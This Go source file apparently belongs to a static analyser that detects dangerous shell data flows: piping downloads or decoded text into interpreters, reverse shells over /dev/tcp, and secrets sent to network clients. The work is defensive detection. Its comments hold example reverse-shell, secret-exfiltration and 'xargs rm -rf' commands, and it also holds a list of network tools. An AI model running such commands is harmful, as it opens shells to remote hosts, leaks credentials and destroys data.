package shell

// What flows between commands: a pipeline's text from one element to the
// next, a redirection's file or socket, a substitution's output in another
// command's words. The dangerous flows: downloaded or decoded text run as
// code, a shell connected to the network (a reverse shell), secrets sent
// over the network.

import (
	"encoding/base32"
	"encoding/base64"
	"encoding/hex"
	"slices"
	"strings"

	"mvdan.cc/sh/v3/syntax"
)

// networkClients reach other hosts: a secret in their words or on their
// standard input leaves the machine.
var networkClients = set("curl", "wget", "wget2", "fetch", "aria2c", "axel", "http", "https", "xh", "xhs",
	"lwp-request", "GET", "HEAD", "POST", "lynx", "links", "elinks", "w3m", "nc", "ncat", "netcat", "socat",
	"telnet", "openssl", "ftp", "tftp", "curlie", "httpie", "ssh", "scp", "sftp", "rsync", "nslookup", "dig",
	"host", "ping", "ping6", "traceroute", "whois", "mail", "mailx", "sendmail", "mutt", "gh", "rclone", "aws",
	"gsutil", "gcloud", "az", "s3cmd", "smbclient", "git")

// stdinSenders send their standard input to another host.
var stdinSenders = set("nc", "ncat", "netcat", "telnet", "ssh", "mail", "mailx", "sendmail", "mutt", "socat")

// facts sums up the commands added since start: what one pipeline element
// or one statement does with its input and output.
type facts struct {
	download, decode, secretOut, sendsStdin, runsStdin, network bool
	// runner is the text of the command that runs its input as code.
	runner, text string
}

func (z *analyzer) factsSince(start int) facts {
	var f facts
	for i := start; i < len(z.sink.meta); i++ {
		m := z.sink.meta[i]
		c := z.sink.a.Commands[i]
		if f.text == "" {
			f.text = c.Text
		}
		f.download = f.download || m.download
		f.decode = f.decode || m.decode
		f.secretOut = f.secretOut || m.secretOut
		f.sendsStdin = f.sendsStdin || m.sendsStdin || stdinSenders[c.Program]
		f.network = f.network || m.download || networkClients[c.Program] && c.Program != "git"
		if m.interp && f.runner == "" {
			f.runsStdin, f.runner = true, c.Text
		}
	}
	return f
}

// pipeline analyses each element (each runs in its own subshell) and then
// what crosses them: literal or decodable text piped into a shell is
// analysed as its script; a download or decoded text piped into a shell or
// interpreter runs hidden code; a shell in a pipeline with a network
// client serves another host; secrets piped into a network client leave.
func (z *analyzer) pipeline(c *syntax.BinaryCmd, in state) {
	// a | b | c is left-deep: ((a | b) | c).
	elems := []*syntax.Stmt{c.Y}
	x := c.X
	for {
		if b, ok := x.Cmd.(*syntax.BinaryCmd); ok && (b.Op == syntax.Pipe || b.Op == syntax.PipeAll) && plainStmt(x) {
			elems = append(elems, b.Y)
			x = b.X
			continue
		}
		elems = append(elems, x)
		break
	}
	slices.Reverse(elems)
	var download, decode, secret, shell, network string
	for k, e := range elems {
		start, writes := len(z.sink.a.Commands), len(z.sink.a.Effects.Writes)
		z.stmt(e, in)
		f := z.factsSince(start)
		for _, w := range z.sink.a.Effects.Writes[min(writes, len(z.sink.a.Effects.Writes)):] {
			// … | tee x, … | base64 -d > x: the text that flows in.
			if secret != "" {
				z.sink.tainted[w] = true
			}
			if download != "" || decode != "" {
				z.sink.downloaded[w] = true
			}
		}
		if k > 0 {
			z.xargsInput(start, elems[:k], in)
		}
		if k > 0 && f.runsStdin {
			if text, ok := z.pipedText(elems[:k], in); ok {
				z.runsText(start, text, in, "a shell reading piped text")
			}
			if download != "" {
				z.dangerous(escalates, "pipes a download into an interpreter: %s | … %s", download, f.runner)
			}
			if decode != "" {
				z.dangerous(escalates, "runs decoded text as code, hidden from review: %s | … %s", decode, f.runner)
			}
		}
		if k > 0 && f.sendsStdin && secret != "" {
			z.dangerous(leaks, "sends what %s prints (secrets) over the network: … | %s", secret, f.text)
		}
		if f.runsStdin && network != "" || f.network && shell != "" {
			z.dangerous(escalates, "connects a shell to the network, for another host to run commands here: %s", z.text(c))
		}
		if download != "" {
			// curl … | tar -xz: what it extracts came from the network.
			for i := start; i < len(z.sink.meta); i++ {
				if d := z.sink.meta[i].extractDir; d != "" {
					z.sink.downloadedDirs = append(z.sink.downloadedDirs, d)
				}
			}
		}
		if f.download && download == "" {
			download = f.text
		}
		if f.decode && decode == "" {
			decode = f.text
		}
		if f.secretOut && secret == "" {
			secret = f.text
		}
		if f.runsStdin && shell == "" {
			shell = f.runner
		}
		if f.network && network == "" {
			network = f.text
		}
	}
}

// runsText analyses text a statement runs: a shell's script, or an
// interpreter's program.
func (z *analyzer) runsText(start int, text string, st state, what string) {
	for i := start; i < len(z.sink.meta); i++ {
		if z.sink.meta[i].shell {
			z.script(text, st, what)
			return
		}
		if lang := z.sink.meta[i].lang; lang != "" {
			z.inlineCode(lang, text, z.sink.a.Commands[i].Text, st)
			return
		}
	}
}

// pipedText is the text the elements print when the analyser can tell:
// a literal echo or printf, through decoders it can run itself (base64
// -d, base32 -d, xxd -r -p, rev).
func (z *analyzer) pipedText(elems []*syntax.Stmt, st state) (string, bool) {
	text, ok := z.literalOutput(elems[0], st)
	if !ok {
		return "", false
	}
	for _, e := range elems[1:] {
		c, isCall := e.Cmd.(*syntax.CallExpr)
		if !isCall || len(e.Redirs) > 0 {
			return "", false
		}
		var words []string
		for _, a := range c.Args {
			w := z.resolve(a, st)
			if !w.full || w.glob {
				return "", false
			}
			words = append(words, w.val)
		}
		if text, ok = decodeText(words, text); !ok {
			return "", false
		}
	}
	return text, true
}

// decodeText runs a decoder the analyser knows on text.
func decodeText(words []string, text string) (string, bool) {
	if len(words) == 0 {
		return "", false
	}
	args := strings.Join(words[1:], " ")
	clean := strings.Map(func(r rune) rune {
		if r == '\n' || r == '\r' || r == ' ' || r == '\t' {
			return -1
		}
		return r
	}, text)
	switch {
	case (words[0] == "base64" || words[0] == "base32") && (args == "-d" || args == "--decode" || args == "-di" || args == "-D"):
		var out []byte
		var err error
		if words[0] == "base64" {
			out, err = base64.StdEncoding.DecodeString(clean)
			if err != nil {
				out, err = base64.RawStdEncoding.DecodeString(strings.TrimRight(clean, "="))
			}
		} else {
			out, err = base32.StdEncoding.DecodeString(clean)
		}
		return string(out), err == nil
	case words[0] == "xxd" && (args == "-r -p" || args == "-p -r" || args == "-rp" || args == "-r -ps" || args == "-ps -r"):
		out, err := hex.DecodeString(clean)
		return string(out), err == nil
	case words[0] == "rev" && args == "":
		lines := strings.Split(strings.TrimSuffix(text, "\n"), "\n")
		for i, l := range lines {
			r := []rune(l)
			slices.Reverse(r)
			lines[i] = string(r)
		}
		return strings.Join(lines, "\n") + "\n", true
	case words[0] == "cat" && args == "":
		return text, true
	}
	return "", false
}

// streamDanger judges a redirection of the statement whose commands start
// at start: a shell or interpreter whose input or output is a network
// socket (bash -i >& /dev/tcp/h/p 0>&1, exec 3<>/dev/tcp/…) serves
// another host; a secret redirected into a network client, or a secret
// printed into a socket, leaves the machine.
func (z *analyzer) streamDanger(start int, w wordInfo, st state, input bool) {
	if start >= len(z.sink.meta) {
		return
	}
	socket := strings.HasPrefix(w.val, "/dev/tcp/") || strings.HasPrefix(w.val, "/dev/udp/")
	f := z.factsSince(start)
	shell := f.runsStdin
	for i := start; i < len(z.sink.a.Commands); i++ {
		p := z.sink.a.Commands[i].Program
		if p == "exec" || runsCode(p) {
			shell = true
		}
	}
	text := z.sink.a.Commands[start].Text
	switch {
	case socket && shell:
		z.dangerous(escalates, "connects a shell to the network, for another host to run commands here: %s %s", text, w.text)
	case socket && !input && f.secretOut:
		z.dangerous(leaks, "sends secrets over the network: %s > %s", text, w.text)
	case input && !socket:
		if why := z.secretWord(w, st); why != "" {
			for i := start; i < len(z.sink.meta); i++ {
				z.sink.meta[i].secretOut = true
			}
			if f.sendsStdin || z.anySocket(start) {
				z.dangerous(leaks, "sends a secret over the network: %s < %s (%s)", text, w.text, why)
			}
		}
	}
}

// runsCode: a shell or interpreter, which runs what reaches it.
func runsCode(prog string) bool {
	p := programs[canonical(prog)]
	return p != nil && (p.unbounded == "runs a script" || p.unbounded == "runs a program")
}

// sendsSecrets judges a command that reaches the network: the files it
// sends (curl -d @f, -T f, scp f host:) and the words built from
// substitutions that print secrets (curl -d "$(cat .env)", nslookup
// "$(cat key | base64).x.example").
func (z *analyzer) sendsSecrets(c *cmd) {
	for _, w := range c.argv[1:] {
		v := w.val
		if _, after, ok := strings.Cut(v, "="); ok {
			v = after
		}
		if strings.HasPrefix(v, "/dev/tcp/") || strings.HasPrefix(v, "/dev/udp/") {
			z.sink.meta[c.idx].socket = true
		}
	}
	m := z.sink.meta[c.idx]
	if m.socket && m.secretOut {
		z.dangerous(leaks, "%s writes secrets to a network socket: %s", c.base, c.text)
		return
	}
	for _, f := range m.sent {
		if why := z.secretWord(f, c.st); why != "" {
			z.dangerous(leaks, "%s sends %s over the network: %s (%s)", c.base, f.text, c.text, why)
			return
		}
	}
	if !networkClients[c.base] && !m.download {
		return
	}
	for _, w := range c.argv[1:] {
		if w.subSecret {
			z.dangerous(leaks, "%s sends what a substitution reads from a secret over the network: %s", c.base, c.text)
			return
		}
	}
}

// hereDanger judges a here-document or here-string whose substitutions
// (the commands from subs on) feed the statement's commands (from start to
// subs): a download or decoded text fed to a shell or interpreter runs
// hidden code (bash <<< "$(curl …)"); secrets fed to a network client
// leave (nc host <<< "$(cat .env)").
func (z *analyzer) hereDanger(start, subs int, st state) {
	if subs <= start || subs >= len(z.sink.meta) {
		return
	}
	fed := z.factsSince(subs)
	var stmt facts
	for i := start; i < subs; i++ {
		m := z.sink.meta[i]
		c := z.sink.a.Commands[i]
		stmt.runsStdin = stmt.runsStdin || m.interp
		stmt.sendsStdin = stmt.sendsStdin || m.sendsStdin || stdinSenders[c.Program]
		if stmt.text == "" {
			stmt.text = c.Text
		}
	}
	switch {
	case stmt.runsStdin && (fed.download || fed.decode):
		z.dangerous(escalates, "feeds downloaded or decoded text to a shell or interpreter, hidden from review: %s", stmt.text)
	case stmt.sendsStdin && fed.secretOut:
		z.dangerous(leaks, "feeds what %s prints (secrets) to a network client: %s", fed.text, stmt.text)
	}
}

// anySocket reports whether a command since start names a network socket.
func (z *analyzer) anySocket(start int) bool {
	for i := start; i < len(z.sink.meta); i++ {
		if z.sink.meta[i].socket {
			return true
		}
	}
	return false
}

// xargsInput: echo ~ | xargs rm -rf is rm -rf ~. When xargs gets literal
// words from the pipe, the command it builds is analysed.
func (z *analyzer) xargsInput(start int, before []*syntax.Stmt, st state) {
	if start+1 >= len(z.sink.a.Commands) || z.sink.a.Commands[start].Program != "xargs" {
		return
	}
	for _, a := range z.sink.a.Commands[start].Args[1:] {
		if strings.HasPrefix(a, "-I") || strings.HasPrefix(a, "-i") || strings.HasPrefix(a, "--replace") ||
			a == "-a" || strings.HasPrefix(a, "--arg-file") || strings.HasPrefix(a, "-0") || a == "--null" {
			return
		}
	}
	text, ok := z.pipedText(before, st)
	if !ok {
		return
	}
	inner := z.sink.a.Commands[start+1]
	var words []string
	for i, a := range inner.Args {
		if inner.Dynamic[i] {
			words = append(words, a)
		} else {
			words = append(words, shellQuote(a))
		}
	}
	for _, f := range strings.Fields(text) {
		words = append(words, shellQuote(f))
	}
	z.script(strings.Join(words, " "), st, "xargs with piped words")
}

// shellQuote quotes a word for the shell, leaving a leading ~ to expand.
func shellQuote(s string) string {
	if s == "~" || strings.HasPrefix(s, "~/") {
		return "~" + shellQuote(s[1:])
	}
	if s == "" {
		return ""
	}
	return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'"
}

// carries marks the files written since writes (an index of
// Effects.Writes) by the commands from start on: what they write holds
// what they printed or read — secrets (cp .env x, cat key > x) or a
// download (curl … | base64 -d > a).
func (z *analyzer) carries(start, writes int) {
	f := z.factsSince(start)
	if !f.secretOut && !f.download {
		return
	}
	for _, w := range z.sink.a.Effects.Writes[min(writes, len(z.sink.a.Effects.Writes)):] {
		if f.secretOut {
			z.sink.tainted[w] = true
		}
		if f.download {
			z.sink.downloaded[w] = true
		}
	}
}
